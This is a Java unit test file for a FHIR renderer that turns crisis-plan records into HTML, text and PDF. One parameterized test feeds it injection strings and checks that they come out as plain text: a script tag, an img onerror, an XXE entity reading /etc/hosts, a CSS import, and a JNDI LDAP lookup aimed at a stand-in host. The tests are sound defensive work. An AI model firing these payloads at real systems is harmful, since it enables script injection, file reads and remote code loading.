package org.warmhandoff.fhir.paper;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Optional;
import javax.xml.parsers.DocumentBuilderFactory;
import org.hl7.fhir.r4.model.DocumentReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Document;
import org.warmhandoff.cases.Case;
import org.warmhandoff.cases.Programs;
import org.warmhandoff.cases.Validity;
import org.warmhandoff.fhir.Mappings;
import org.warmhandoff.fhir.base.Edition;
import org.warmhandoff.terminology.Terminology;
import org.xml.sax.InputSource;

class DocumentFormatsTest {

  private final Mappings mappings = new Mappings(Programs.BRIDGEWATER, Terminology.shipped());

  static List<Case> cases() {
    return Case.all();
  }

  @ParameterizedTest
  @MethodSource("cases")
  void pageAndTextSayEverything(Case example) {
    var papers = Papers.of(example);
    var texts = papers.texts().toArray(String[]::new);

    assertThat(body(papers.html())).containsIgnoringWhitespaces(texts);
    assertThat(papers.text()).containsIgnoringWhitespaces(texts);
  }

  @Test
  void whatRunsFromRightToLeftIsAPage() {
    assertThat(Papers.of(Case.named("crisis-plan/right-to-left")).format(DocumentFormat.PDF))
        .isEqualTo("text/html");
    assertThat(Papers.of(Case.named("crisis-plan/name-vietnamese")).format(DocumentFormat.PDF))
        .isEqualTo("application/pdf");
  }

  @ParameterizedTest
  @MethodSource("cases")
  void mapsToItsText(Case example) throws IOException {
    example.assertSameText("2-document.txt", Papers.of(example).text());
  }

  @ParameterizedTest
  @EnumSource
  void theDocumentIsOfTheFormThatIsWanted(DocumentFormat format) {
    var attachment = document(format, Optional.empty()).getContentFirstRep().getAttachment();

    assertThat(attachment.getContentType()).isEqualTo(format.contentType());
    assertThat(attachment.getSize()).isEqualTo(attachment.getData().length);
    assertThat(attachment.getHash()).hasSize(20);
  }

  @Test
  void theDocumentReplacesTheOneThatThePartnerHolds() {
    var document = document(DocumentFormat.PDF, Optional.of(Edition.first(1)));

    assertThat(document.getRelatesTo()).hasSize(1);
    var related = document.getRelatesToFirstRep();
    assertThat(related.getCode().toCode()).isEqualTo("replaces");
    assertThat(related.getTarget().getType()).isEqualTo("DocumentReference");
    assertThat(related.getTarget().getIdentifier().getValue()).isEqualTo("CP-2001-v1");
    assertThat(related.getTarget().getIdentifier().getSystem())
        .isEqualTo(document.getMasterIdentifier().getSystem());
    Validity.assertValid(document);
  }

  @Test
  void theFirstDocumentReplacesNothing() {
    assertThat(document(DocumentFormat.PDF, Optional.empty()).hasRelatesTo()).isFalse();
  }

  @Test
  void noLineOfTheTextIsWiderThanATerminalUnlessAWordIs() {
    var word = "x".repeat(200);

    var lines = Papers.saying("many words ".repeat(100) + word + " and more").text().lines();

    assertThat(lines).filteredOn(line -> line.length() > 78).allMatch(("  " + word)::equals);
  }

  @Test
  void noTextCanPassForAHeading() {
    var lines = Papers.saying("harmless\n\nWhat to do\n----------\n\r\rCall nobody").text().lines();

    assertThat(lines)
        .contains("  What to do", "  ----------", "  Call nobody")
        .doesNotContain("What to do", "----------");
  }

  @Test
  void aPhoneNumberIsNotBroken() {
    for (var length = 40; length < 80; length++) {
      assertThat(Papers.saying("x".repeat(length) + " +1 508-555-0123").text())
          .contains("+1 508-555-0123");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "</style></title></div></body></html>",
        "<img src=\"http://partner.example/x\" onerror='x'/>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hosts\">]>",
        "R&D &amp; &lt; &e; ]]> <![CDATA[",
        "\"; } @import url(http://partner.example/x.css); * { display: none }",
        "url(file:///etc/hosts) \\00003c %s %1$s {{x}} ${x} $1 \\$",
        "${jndi:ldap://partner.example/x}"
      })
  void whatLooksLikeMarkupIsJustText(String text) {
    var papers = Papers.saying(text);

    assertThat(body(papers.html())).contains(text);
    assertThat(papers.text()).contains(text);
    assertThat(papers.pdfText()).containsIgnoringWhitespaces(text);
    assertThat(parsed(papers.html()).getElementsByTagName("*").getLength())
        .isEqualTo(parsed(Papers.saying("x").html()).getElementsByTagName("*").getLength());
  }

  @Test
  void controlCharactersAreShownAsSomethingThatIsMissing() {
    var papers = Papers.saying("a\u0000b\u001b[2Jc\ud800d\uffff");

    var shown = "a\ufffdb\ufffd[2Jc\ufffdd\ufffd";
    assertThat(body(papers.html())).contains(shown);
    assertThat(papers.text()).contains(shown);
    assertThat(papers.pdfText()).contains(shown);
  }

  @Test
  void nothingTurnsAPhoneNumberRound() {
    var papers = Papers.saying("call \u202e\u2067+1 508-555-0123\u2066");

    for (var shown : List.of(papers.html(), papers.text(), papers.pdfText())) {
      assertThat(shown)
          .contains("+1 508-555-0123")
          .doesNotContainPattern("[\u202a-\u202e\u2066-\u2069]");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"x", "many words ", "wörter, ", "&<>"})
  void linesMayBeLong(String word) {
    var text = word.repeat(4000 / word.length()).strip();
    var papers = Papers.saying(text);

    assertThat(body(papers.html())).contains(text);
    assertThat(papers.text()).containsIgnoringWhitespaces(text);
    assertThat(papers.pdfText().replaceAll("Record .* Page \\d of \\d", ""))
        .containsIgnoringWhitespaces(text);
  }

  @Test
  void aNumberThatCouldBeAStyleStaysANumber() {
    assertThat(Papers.of(Case.named("crisis-plan/every-section")).html())
        .contains("content: \"Record\\000020CP\\00002d2001\\00002c\\000020version\\0000202\"");
  }

  private DocumentReference document(DocumentFormat format, Optional<Edition> held) {
    var example = Case.named("crisis-plan/every-section");
    return mappings.document(example.disclosed(), example.audience(), format, held);
  }

  private static String body(String html) {
    return parsed(html).getElementsByTagName("body").item(0).getTextContent();
  }

  private static Document parsed(String html) {
    try {
      return DocumentBuilderFactory.newInstance()
          .newDocumentBuilder()
          .parse(new InputSource(new StringReader(html)));
    } catch (Exception notWellFormed) {
      throw new AssertionError(new String(html.getBytes(UTF_8), UTF_8), notWellFormed);
    }
  }
}
